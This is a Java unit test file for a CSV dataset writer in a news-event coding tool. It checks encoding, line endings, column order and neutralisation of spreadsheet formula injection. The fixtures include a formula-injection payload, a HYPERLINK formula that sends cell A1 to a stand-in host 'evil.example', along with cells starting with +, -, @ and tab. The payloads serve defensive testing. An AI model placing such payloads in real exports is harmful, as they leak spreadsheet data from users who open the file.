package org.entente.table;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.entente.event.Dataset;
import org.entente.party.TestParties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DatasetWriterTest {

  static final String ARTICLES = """
      article_id,file,title,published,published_from,outlet,url,sentences,mentions,warnings,content_hash
      a1,a1.txt,"Niger, Russia sign deal",2023-12-04,manifest,RFI,https://example.org/a1,10,2,,
      a2,a2.txt," ""Quoted"" title ",,,  Le Monde ,,3,1,'+dateline 2023-12-05;body says 2023-12-01,
      """;

  // \s keeps the trailing space of m2's text, which a text block would strip; \t is the tab of m3's target_text.
  static final String MENTIONS = """
      mention_id,event_id,article_id,sentence,char_start,char_end,source,target,category,subtype,date,\
      date_precision,date_text,source_text,target_text,trigger,text,coded_by
      m1,e1,a1,3,100,160,NER,RUS,cooperation,military,2023-12-04,day,on Monday,Niger,Russia,signed,\
      "Niger and Russia signed, on Monday, a ""military"" pact.",coder
      m2,e1,a1,5,200,230,NER,RUS,cooperation,military,2023-12-04,reported,,Niamey,Moscow,deal,\
       Both sides praised the deal.\s,coder
      m3,e2,a2,1,0,58,MLI,FRA,expulsion,forces,,unknown,,''Mali','\tFrench,'@expelled,\
      "'=HYPERLINK(""http://evil.example/?q=""&A1,""click"") Mali expelled French troops.",coder
      """;

  static final String EVENTS = """
      event_id,date,date_precision,source,source_name,target,target_name,directed,category,subtype,cameo,\
      goldstein,plover,mentions,articles,article_ids,first_reported,evidence,evidence_article,coded_by
      e1,2023-12-04,day,NER,Niger,RUS,Russia,false,cooperation,military,062,7.4,COOPERATE / military,2,1,a1,\
      2023-12-04,"Niger and Russia signed, on Monday, a ""military"" pact.",a1,coder
      e2,,unknown,MLI,Mali,FRA,France,true,expulsion,forces,166,-7.0,SANCTION / expel,1,1,a2,,\
      "'=HYPERLINK(""http://evil.example/?q=""&A1,""click"") Mali expelled French troops.",a2,coder
      e3,2023-07-01,month,NER,Niger,EU,European Union,true,cooperation,visit,042,1.9,CONSULT / visit,1,2,a1;a2,\
      2023-12-04,"In July, a delegation visited Brussels.",a1,coder
      e4,2023-01-01,year,BFA,Burkina Faso,MLI,Mali,false,alliance,formation,057,8.0,SUPPORT (military context),\
      1,1,a2,,'-Mali and Burkina Faso formed an alliance.,a2,coder
      """;

  @TempDir Path dir;

  @Test
  void writesTheExactBytesOfEachTable() throws IOException {
    Fixtures.writer().write(Fixtures.dataset(), dir);

    assertThat(read("articles.csv")).isEqualTo(ARTICLES);
    assertThat(read("mentions.csv")).isEqualTo(MENTIONS);
    assertThat(read("events.csv")).isEqualTo(EVENTS);
  }

  @Test
  void filesAreUtf8WithoutBomAndEndEveryLineWithLf() throws IOException {
    Fixtures.writer().write(Fixtures.dataset(), dir);

    for (String name : List.of("articles.csv", "mentions.csv", "events.csv", "datapackage.json")) {
      byte[] bytes = Files.readAllBytes(dir.resolve(name));
      assertThat(bytes[0]).as(name + " has no BOM").isNotEqualTo((byte) 0xEF);
      assertThat(new String(bytes, StandardCharsets.UTF_8)).as(name).doesNotContain("\r").endsWith("\n");
    }
  }

  @Test
  void nonAsciiTextIsWrittenAsUtf8() throws IOException {
    var articles = List.of(new org.entente.article.ArticleSummary("a1", "a1.txt", "Niamey–Moscou : l’été",
        null, "", "", "", 1, 0, List.of()));
    Fixtures.writer().write(new Dataset(articles, List.of(), List.of()), dir);

    assertThat(Files.readAllBytes(dir.resolve("articles.csv")))
        .isEqualTo(("article_id,file,title,published,published_from,outlet,url,sentences,mentions,warnings,"
            + "content_hash\na1,a1.txt,Niamey–Moscou : l’été,,,,,1,0,,\n").getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void rawTextWritesArticleTextUnchanged() throws IOException {
    new DatasetWriter(new WriteOptions(true), TestParties.bundled()).write(Fixtures.dataset(), dir);

    assertThat(read("articles.csv")).isEqualTo(ARTICLES.replace("'+dateline", "+dateline"));
    assertThat(read("mentions.csv")).isEqualTo(MENTIONS
        .replace("''Mali','\tFrench,'@expelled,\"'=HYPERLINK", "'Mali',\tFrench,@expelled,\"=HYPERLINK"));
    assertThat(read("events.csv")).isEqualTo(EVENTS
        .replace("\"'=HYPERLINK", "\"=HYPERLINK")
        .replace(",'-Mali and", ",-Mali and"));
  }

  @Test
  void noArticleTextCellStartsLikeAFormulaByDefault() throws IOException {
    Fixtures.writer().write(Fixtures.dataset(), dir);

    for (var table : List.of(Tables.ARTICLES, Tables.MENTIONS, Tables.EVENTS)) {
      List<List<String>> rows = Csv.parse(read(table.fileName()));
      List<String> header = rows.get(0);
      for (List<String> row : rows.subList(1, rows.size())) {
        for (int c = 0; c < row.size(); c++) {
          String cell = row.get(c);
          assertThat(cell).as(table.fileName() + " " + header.get(c)).doesNotStartWith("=");
          boolean articleText = table.column(header.get(c)).orElseThrow().articleText();
          if (articleText && !cell.isEmpty()) {
            assertThat("=+-@\t\r").as(table.fileName() + " " + header.get(c) + ": " + cell)
                .doesNotContain(cell.substring(0, 1));
          }
        }
      }
    }
  }

  @Test
  void codesIdsDatesAndNumbersAreNeverNeutralised() throws IOException {
    Fixtures.writer().write(Fixtures.dataset(), dir);

    List<List<String>> events = Csv.parse(read("events.csv"));
    int goldstein = events.get(0).indexOf("goldstein");
    assertThat(events.get(2).get(goldstein)).isEqualTo("-7.0");
  }

  @Test
  void sameDatasetGivesByteIdenticalFiles(@TempDir Path other) throws IOException {
    Fixtures.writer().write(Fixtures.dataset(), dir);
    Fixtures.writer().write(Fixtures.dataset(), other);
    Fixtures.writer().write(Fixtures.dataset(), other); // over existing files

    for (String name : List.of("articles.csv", "mentions.csv", "events.csv", "datapackage.json")) {
      assertThat(Files.readAllBytes(other.resolve(name))).as(name).isEqualTo(Files.readAllBytes(dir.resolve(name)));
    }
  }

  @Test
  void emptyDatasetWritesHeadersOnly() throws IOException {
    Fixtures.writer().write(new Dataset(List.of(), List.of(), List.of()), dir);

    assertThat(read("articles.csv")).isEqualTo(ARTICLES.lines().findFirst().orElseThrow() + "\n");
    assertThat(read("events.csv")).isEqualTo(String.join(",", Tables.EVENTS.columnNames()) + "\n");
    assertThat(read("mentions.csv")).isEqualTo(String.join(",", Tables.MENTIONS.columnNames()) + "\n");
  }

  @Test
  void createsAMissingDataDirectoryAndLeavesNoTemporaryFile() throws IOException {
    Path data = dir.resolve("out/data");
    Fixtures.writer().write(Fixtures.dataset(), data);

    try (var files = Files.list(data)) {
      assertThat(files.map(p -> p.getFileName().toString()))
          .containsExactlyInAnyOrder("articles.csv", "mentions.csv", "events.csv", "datapackage.json");
    }
  }

  @Test
  void headersFollowDatasetMdInOrder() {
    // DATASET.md's columns, then the ones Entente adds after them
    assertThat(Tables.ARTICLES.columnNames()).containsExactly("article_id", "file", "title", "published",
        "published_from", "outlet", "url", "sentences", "mentions", "warnings", "content_hash");
    assertThat(Tables.MENTIONS.columnNames()).containsExactly("mention_id", "event_id", "article_id", "sentence",
        "char_start", "char_end", "source", "target", "category", "subtype", "date", "date_precision", "date_text",
        "source_text", "target_text", "trigger", "text", "coded_by");
    assertThat(Tables.EVENTS.columnNames()).containsExactly("event_id", "date", "date_precision", "source",
        "source_name", "target", "target_name", "directed", "category", "subtype", "cameo", "goldstein", "plover",
        "mentions", "articles", "article_ids", "first_reported", "evidence", "evidence_article", "coded_by");
  }

  private String read(String name) throws IOException {
    return Files.readString(dir.resolve(name), StandardCharsets.UTF_8);
  }
}
